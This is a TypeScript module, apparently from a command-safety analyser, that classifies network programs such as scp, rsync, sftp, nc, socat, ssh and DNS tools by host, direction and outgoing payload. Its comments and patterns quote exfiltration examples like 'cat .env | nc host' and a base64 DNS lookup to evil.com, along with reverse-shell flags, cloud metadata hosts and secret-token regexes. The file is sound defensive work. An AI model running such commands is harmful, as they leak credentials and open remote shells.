import type { PathClass } from "../effect.ts";
import { isUnder, mostSensitive } from "../paths.ts";
import type { ShellWord } from "../shell/command.ts";
import { allOptionValues, hasFlag, operands, optionValue, type ProgramContext, type ProgramHandler } from "./context.ts";

/**
 * Network clients: which host, which direction, and what data leaves. `curl -d @.env host` is an
 * upload whose payload is a secret; `curl -o f url` is a download that writes f.
 */

/**
 * Does this URL (or search query) carry a credential out? A parameter named like one, a token in a
 * known format, or either of those base64-encoded into a path segment, parameter or subdomain.
 */
export function urlCarriesSecret(url: string): boolean {
  if (SECRET_PARAM.test(url) || SECRET_TOKEN.test(url)) return true;
  for (const m of url.matchAll(/[A-Za-z0-9+/_-]{24,}={0,2}/g)) {
    const text = Buffer.from(m[0].replace(/-/g, "+").replace(/_/g, "/"), "base64").toString("utf8");
    if (SECRET_TOKEN.test(text) || /\b[\w-]*(KEY|TOKEN|SECRET|PASSWORD|DATABASE_URL)\w*\s*[=:]\s*\S{6,}/i.test(text)) return true;
  }
  return false;
}
/** A query or fragment parameter named like a credential, with a value long enough to be one. */
const SECRET_PARAM = /(?:^|[?&#;/])[\w.-]*(secret|token|password|passwd|pwd|api[_-]?key|access[_-]?key|auth|credential|private[_-]?key|session|key|sig|signature)=[^&\s#]{8,}/i;
/** Token formats of the common services, a JWT, a PEM block, or a password in `user:pass@host`. */
const SECRET_TOKEN = /(A[KS]IA[0-9A-Z]{16}|AKIA%|gh[pousr]_[A-Za-z0-9]{20,}|github_pat_\w{20,}|glpat-[\w-]{20}|sk-[A-Za-z0-9_-]{20,}|[sr]k_live_\w{16,}|xox[abpr]-[A-Za-z0-9-]{10,}|AIza[\w-]{35}|npm_[A-Za-z0-9]{36}|hf_[A-Za-z]{30,}|eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}|-----BEGIN|:\/\/[^/:@\s]+:[^/@\s]{3,}@)/;

/** Cloud metadata services: they hand the machine's own credentials to whoever asks. */
const METADATA_HOSTS = new Set(["169.254.169.254", "169.254.170.2", "metadata.google.internal", "metadata", "100.100.100.200", "[fd00:ec2::254]", "fd00:ec2::254", "metadata.azure.com"]);
/** `http://2852039166/` is 169.254.169.254 too: hosts are compared after URL parsing normalises them. */
export const isMetadataHost = (host: string) => METADATA_HOSTS.has(host.toLowerCase());

export function hostOf(target: string): string {
  try {
    const u = new URL(/^[a-z][a-z0-9+.-]*:\/\//i.test(target) ? target : `http://${target}`);
    return u.hostname || target;
  } catch {
    return target;
  }
}

/** `user@host:path` (scp/rsync) → host, or undefined for a local path. */
export function remoteSpec(v: string): string | undefined {
  if (/^[a-z][a-z0-9+.-]*:\/\//i.test(v)) return hostOf(v);
  const m = /^(?:[^@/\s]+@)?([^:/\s]+):/.exec(v);
  return m && !v.startsWith("/") && !v.startsWith("./") ? m[1] : undefined;
}

/** Programs that pass a file's content on to their output (`cat .env | nc host`). */
const PASSES_ON = /^(cat|tac|head|tail|base64|base32|gzip|bzip2|xz|zstd|xxd|od|tar|zip|strings|openssl|gpg|sort|uniq|cut|tr|sed|awk|jq)$/;

/**
 * What a network sink reading stdin sends: the most sensitive file the commands before it in the
 * pipe (or a `<` redirect) read, the whole environment from `env`, or unknown data.
 */
export function pipedPayload(ctx: ProgramContext): PathClass | "data" {
  const classes: PathClass[] = [];
  for (const u of ctx.cmd.upstream) {
    const name = u.argv[0]?.value ?? "";
    if (/^(env|printenv|set|export)$/.test(name) && u.argv.length === 1) classes.push("secret");
    // Every operand of a file program is a file; the filters' first operand is their script, so only path-like ones count.
    const files = /^(cat|tac|head|tail|base64|base32|gzip|bzip2|xz|zstd|xxd|od|tar|zip|strings|gpg)$/.test(name);
    if (PASSES_ON.test(name)) for (const w of operands(u.argv, new Set(["-n", "-c", "-w", "-e", "-f", "-C"]))) if (w.value !== "-" && (files || /[./~]/.test(w.value))) classes.push(ctx.path(w).class);
    for (const r of u.redirects) if (r.op === "<" && r.target) classes.push(ctx.path(r.target).class);
  }
  for (const r of ctx.cmd.redirects) if (r.op === "<" && r.target) classes.push(ctx.path(r.target).class);
  return mostSensitive(classes);
}

const COPY_VALUES = new Set(["-P", "-i", "-e", "-o", "-F", "-l", "-c", "-J", "--rsh", "--exclude", "--include", "--filter", "--port"]);

/** `-n` in an option cluster, or `--dry-run`, among the options themselves (not as another option's value). */
function dryRun(words: ShellWord[], takesValue: ReadonlySet<string>): boolean {
  for (let i = 1; i < words.length; i++) {
    const v = words[i].value;
    if (v === "--") return false;
    if (v === "--dry-run") return true;
    if (takesValue.has(v)) { i++; continue; }
    if (/^-[A-Za-z]+$/.test(v) && v.includes("n")) return true;
  }
  return false;
}

/** ssh-family `-o ProxyCommand=cmd` / `LocalCommand=cmd` run cmd locally: analysed as shell. */
function sshCommandOptions(ctx: ProgramContext): void {
  for (let i = 1; i < ctx.words.length; i++) {
    const v = ctx.words[i].value;
    const opt = v === "-o" ? ctx.words[i + 1] : v.startsWith("-o") && v.length > 2 ? { ...ctx.words[i], value: v.slice(2) } : undefined;
    const m = opt && /^(ProxyCommand|LocalCommand|KnownHostsCommand|RemoteCommand)\s*[= ]\s*(.*)$/is.exec(opt.value);
    if (m) (opt!.dynamic ? ctx.emit({ type: "dynamic", reason: `ssh ${m[1]} computed at run time`, span: opt!.span }) : ctx.shell(m[2]));
  }
  const s = optionValue(ctx.words, ["-S"]);
  if (ctx.words[0].value !== "ssh" && s) ctx.emit({ type: "dynamic", reason: `${ctx.words[0].value} -S runs ${s.value} as its ssh`, span: s.span });
}

/**
 * sftp host with commands on stdin (`<<< 'put .env'`) or from `-b file`: `put` uploads the local
 * file; commands we cannot see (a pipe, a batch file) may upload anything.
 */
const sftp: ProgramHandler = (ctx) => {
  const ops = operands(ctx.words, COPY_VALUES_SFTP);
  if (ops.length !== 1 || remoteSpec(`${ops[0].value}`)) return copyRemote(ctx);
  sshCommandOptions(ctx);
  const host = remoteSpec(`${ops[0].value}:`) ?? ops[0].value;
  const batch = ctx.cmd.stdinText;
  if (batch === undefined) return ctx.emit({ type: "net", direction: "upload", host, payload: "data", note: "sftp commands autogate cannot see", span: ctx.cmd.span });
  for (const m of batch.matchAll(/^\s*m?put\s+(?:-\S+\s+)*(\S+)/gm)) {
    const ref = ctx.path(m[1]);
    ctx.emit({ type: "read", ...ref, span: ctx.cmd.span });
    ctx.emit({ type: "net", direction: "upload", host, payload: ref.class, span: ctx.cmd.span });
  }
  ctx.emit({ type: "net", direction: "connect", host, span: ctx.cmd.span });
};
const COPY_VALUES_SFTP = new Set(["-P", "-i", "-o", "-F", "-l", "-c", "-J", "-b", "-B", "-R", "-s", "-S", "-D"]);

/** scp/rsync/sftp: copying to `host:` is an upload of the local sources. */
const copyRemote: ProgramHandler = (ctx) => {
  sshCommandOptions(ctx);
  // `rsync -e 'cmd'` runs cmd here as its remote shell: plain ssh adds the host itself.
  for (const rsh of ctx.words[0].value === "rsync" ? allOptionValues(ctx.words, ["-e", "--rsh"]) : []) {
    if (rsh.dynamic) ctx.emit({ type: "dynamic", reason: "rsync -e names a command computed at run time", span: rsh.span });
    else if (!/^(\S*\/)?ssh(\s|$)/.test(rsh.value) || /(Proxy|Local|KnownHosts|Remote)Command/i.test(rsh.value)) ctx.shell(rsh.value);
  }
  const ops = operands(ctx.words, COPY_VALUES);
  const dest = ops[ops.length - 1];
  const srcs = ops.slice(0, -1);
  if (!dest) return;
  const destHost = remoteSpec(dest.value);
  for (const s of srcs) {
    const srcHost = remoteSpec(s.value);
    if (srcHost) ctx.emit({ type: "net", direction: "download", host: srcHost, span: s.span });
    else {
      const ref = ctx.path(s);
      ctx.emit({ type: "read", ...ref, span: s.span });
      // Sending the home folder (or a folder above it) sends ~/.ssh and every other credential in it.
      const holdsHome = [ctx.env.home, "/"].some((d) => isUnder(d, ref.path));
      if (destHost) ctx.emit({ type: "net", direction: "upload", host: destHost, payload: holdsHome ? "secret" : ref.class, span: dest.span });
    }
  }
  // rsync -n / --dry-run lists what it would copy and changes nothing.
  if (ctx.words[0].value === "rsync" && dryRun(ctx.words, COPY_VALUES)) return;
  if (!destHost) ctx.emit({ type: "write", ...ctx.path(dest), note: "copy destination", span: dest.span });
  if (hasFlag(ctx.words, "", ["--delete", "--delete-before", "--delete-after", "--delete-during", "--delete-excluded"])) {
    ctx.emit(destHost ? { type: "system", what: `rsync --delete on ${destHost}`, span: dest.span } : { type: "delete", ...ctx.path(dest), recursive: true, span: dest.span });
  }
  // --remove-source-files deletes what was sent: the sources, not the destination.
  if (hasFlag(ctx.words, "", ["--remove-source-files", "--remove-sent-files"])) {
    for (const s of srcs) if (!remoteSpec(s.value)) ctx.emit({ type: "delete", ...ctx.path(s), recursive: true, span: s.span });
  }
};

/** nc/socat/telnet: a raw connection; with `-e`/exec it hands a shell to the other side. */
const rawSocket: ProgramHandler = (ctx) => {
  const ops = operands(ctx.words, new Set(["-p", "-w", "-s", "-q", "-i", "-e", "-c"]));
  const host = ops.find((w) => !/^\d+$/.test(w.value))?.value ?? "unknown";
  const listen = hasFlag(ctx.words, "l", ["--listen"]);
  ctx.emit({ type: "net", direction: ctx.cmd.redirects.some((r) => r.op === "<") || ctx.cmd.upstream.length ? "upload" : "connect", host: listen ? "0.0.0.0 (listening)" : host, payload: pipedPayload(ctx), span: ctx.cmd.span });
  if (hasFlag(ctx.words, "ec", []) || ctx.words.some((w) => /EXEC:|SYSTEM:/i.test(w.value))) {
    ctx.emit({ type: "untrusted-code", origin: "remote-script", note: "gives a remote peer a shell", span: ctx.cmd.span });
  }
};

/** ssh host cmd: the remote command is analysed as shell too (it may delete things over there). */
const ssh: ProgramHandler = (ctx) => {
  sshCommandOptions(ctx);
  const ops = operands(ctx.words, new Set(["-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-W", "-b", "-c", "-E", "-m", "-S", "-w", "-O", "-Q", "-B", "-e"]));
  const host = ops[0] ? remoteSpec(`${ops[0].value}:`) ?? ops[0].value : "unknown";
  // `tar czf - src | ssh host 'cat > x.tgz'`: what is piped in goes to the host.
  const piped = ctx.cmd.upstream.length > 0 || ctx.cmd.redirects.some((r) => r.op === "<" && r.target);
  ctx.emit(piped ? { type: "net", direction: "upload", host, payload: pipedPayload(ctx), span: ctx.cmd.span } : { type: "net", direction: "connect", host, span: ctx.cmd.span });
  const remote = ops.slice(1).map((w) => w.value).join(" ");
  if (remote) ctx.shell(remote, "/");
  if (hasFlag(ctx.words, "RD", [])) ctx.emit({ type: "system", what: "ssh port forwarding / tunnel", span: ctx.cmd.span });
};

/** A lookup of a computed name can carry data out: `host $(cat .env | base64).evil.com`. */
function dnsLookup(ctx: ProgramContext): void {
  for (const w of operands(ctx.words, new Set(["-t", "-c", "-p", "-q", "-W", "-i", "-w", "-s", "@"]))) {
    if (w.dynamic) ctx.emit({ type: "net", direction: "upload", host: w.text, payload: "data", note: "a DNS lookup of a computed name sends that name out", span: w.span });
  }
}

// lynx -dump https://docs.python.org → download; elinks -dump page.html → read(page.html);
// file:///x → read(/x); posting, command scripts and config files are beyond a page read
const textBrowser: ProgramHandler = (ctx) => {
  const opt = ctx.words.slice(1).find((w) => w.value.startsWith("-") && !/^-(dump|source|nolist|width|dump-width|cols|T|no-numbering|no-references|display_charset|assume_charset)(=|$)/.test(w.value) && !/^\d+$/.test(w.value));
  if (opt) return ctx.emit({ type: "dynamic", reason: `${ctx.words[0].value} ${opt.value} does more than fetch a page`, span: opt.span });
  for (const w of operands(ctx.words, new Set(["-width", "-dump-width", "-T", "-cols", "-display_charset", "-assume_charset"]))) {
    if (/^file:/i.test(w.value)) ctx.emit({ type: "read", ...ctx.path(w.value.replace(/^file:(\/\/)?/i, "")), span: w.span });
    else if (/^[a-z][a-z0-9+.-]*:\/\//i.test(w.value) || /^www\./.test(w.value)) ctx.emit({ type: "net", direction: "download", host: hostOf(w.value), url: w.value, span: w.span });
    else ctx.emit({ type: "read", ...ctx.path(w), span: w.span });
  }
};

export const NET_PROGRAMS: Record<string, ProgramHandler> = {
  lynx: textBrowser, elinks: textBrowser, w3m: textBrowser, links: textBrowser,
  scp: copyRemote, rsync: copyRemote, sftp, nc: rawSocket, ncat: rawSocket, netcat: rawSocket,
  socat: rawSocket, telnet: rawSocket, ssh,
  http: (ctx) => operands(ctx.words).slice(0, 2).filter((w) => /[./:]/.test(w.value)).slice(-1).forEach((w) =>
    ctx.emit({ type: "net", direction: operands(ctx.words).length > 2 ? "upload" : "download", host: hostOf(w.value), url: w.value, payload: "data", span: w.span })),
  ftp: (ctx) => ctx.emit({ type: "net", direction: "connect", host: operands(ctx.words)[0]?.value ?? "unknown", span: ctx.cmd.span }),
  ping: dnsLookup, dig: dnsLookup, nslookup: dnsLookup, host: dnsLookup, traceroute: dnsLookup, whois: dnsLookup,
};
NET_PROGRAMS.https = NET_PROGRAMS.http;
